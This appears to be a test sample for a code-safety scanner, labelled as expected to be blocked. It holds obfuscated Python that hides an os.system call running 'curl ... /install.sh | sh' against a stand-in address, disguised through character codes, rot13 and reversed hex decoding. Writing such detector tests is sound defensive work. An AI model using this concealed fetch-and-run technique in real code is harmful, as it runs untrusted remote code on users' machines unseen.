# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/curl_pipe_sh.py technique: encode+getattr
os = __import__(''.join(map(chr, [111, 115])))
getattr(os, __import__('codecs').decode('flfgrz', 'rot13'))(getattr(bytes, 'xehmorf'[::-1])('6375726c202d6673534c20687474703a2f2f3230332e302e3131332e342f696e7374616c6c2e7368207c207368').decode())
